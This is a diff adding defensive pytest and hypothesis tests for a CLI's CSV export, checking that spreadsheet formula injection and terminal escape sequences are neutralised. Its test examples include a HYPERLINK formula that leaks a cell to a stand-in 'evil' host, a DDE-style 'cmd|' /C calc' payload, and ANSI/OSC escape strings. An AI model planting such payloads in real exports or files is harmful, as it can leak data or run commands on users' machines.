@@ -2,13 +2,17 @@
 
 import csv
 import io
+import json
+import time
 from collections.abc import Iterator
 
 import click
 import pytest
+from hypothesis import example, given
+from hypothesis import strategies as st
 
 from agent.cli import intramural
-from agent.listing import printable, show_rows
+from agent.listing import printable, show_rows, spreadsheet_cell
 
 
 @pytest.mark.parametrize(
@@ -18,6 +22,57 @@ def test_a_cell_is_never_a_formula(start: str, capsys: pytest.CaptureFixture[str
     show_rows([{"name": f"{start}cmd()", "mean": -0.5}], {"name": "", "mean": ""}, "csv")
     rows = list(csv.reader(io.StringIO(capsys.readouterr().out, newline="")))
     assert rows[1] == [f"'{start}cmd()", "-0.5"]
+
+
+def cells(text: str, delimiter: str) -> list[str]:
+    """What a spreadsheet may take for the cells of a table whose cell is `text`: it may ignore quotes or not."""
+    file = io.StringIO(newline="")
+    csv.writer(file).writerow(["code", spreadsheet_cell(text), ""])
+    found = list(file.getvalue().split(delimiter))
+    for quoting in (csv.QUOTE_MINIMAL, csv.QUOTE_NONE):
+        reader = csv.reader(io.StringIO(file.getvalue(), newline=""), delimiter=delimiter, quoting=quoting)
+        found += [cell for row in reader for cell in row]
+    return found
+
+
+def is_formula(cell: str) -> bool:
+    start = cell.lstrip().lstrip('"').lstrip()
+    return start.startswith(("=", "@")) or (start.startswith(("+", "-")) and ("(" in start or "|" in start))
+
+
+@given(st.text("=+-@;\t\r\n\"'(|a ", max_size=12))
+@example('Rest.;=HYPERLINK("http://evil/?"&B2)')
+@example("x\n=1+1")
+@example("x;-cmd|' /C calc'!A0;")
+@example('x;"=1+1;')
+@pytest.mark.parametrize("delimiter", [";", "\t"])
+def test_no_cell_is_a_formula_where_other_signs_separate_them(delimiter: str, text: str):
+    assert [cell for cell in cells(text, delimiter) if is_formula(cell)] == []
+    assert spreadsheet_cell(text).replace("'", "") == text.replace("'", "")
+
+
+def test_a_list_of_an_answer_stays_as_it_was_written():
+    text = "Take:\n- aspirin; 3-4 a day\n- rest\n+ tea\n\n-- a + b = c; no more"
+    assert spreadsheet_cell(text) == text
+
+
+def test_a_long_text_of_breaks_and_spaces_is_a_cell_at_once():
+    for text in ("\n" * 10**6, "; " * 10**6, ";" + '" ' * 10**6, ";-" * 10**6, "\n-" + "a" * 10**6):
+        began = time.process_time()
+        spreadsheet_cell(text)
+        assert time.process_time() - began < 3
+
+
+def test_json_escapes_what_takes_over_a_terminal_and_csv_shows_that_it_was_there(capsys: pytest.CaptureFixture[str]):
+    text = "\x1b[31mRED\x1b]0;pwn\x07 \x9b31m \u202e A\ud800 Größe \U0001f600"
+    show_rows([{"name": text}], {"name": ""}, "json")
+    shown = capsys.readouterr().out
+    assert json.loads(shown) == [{"name": text}]
+    assert not [character for character in shown if character != "\n" and not character.isprintable()]
+    assert "Größe \U0001f600" in shown
+    show_rows([{"name": text}], {"name": ""}, "csv")
+    shown = capsys.readouterr().out
+    assert "\ufffd[31mRED\ufffd]0;pwn\ufffd \ufffd31m \u202e A\ufffd Größe \U0001f600" in shown
 
 
 def test_control_characters_never_reach_the_terminal(capsys: pytest.CaptureFixture[str]):
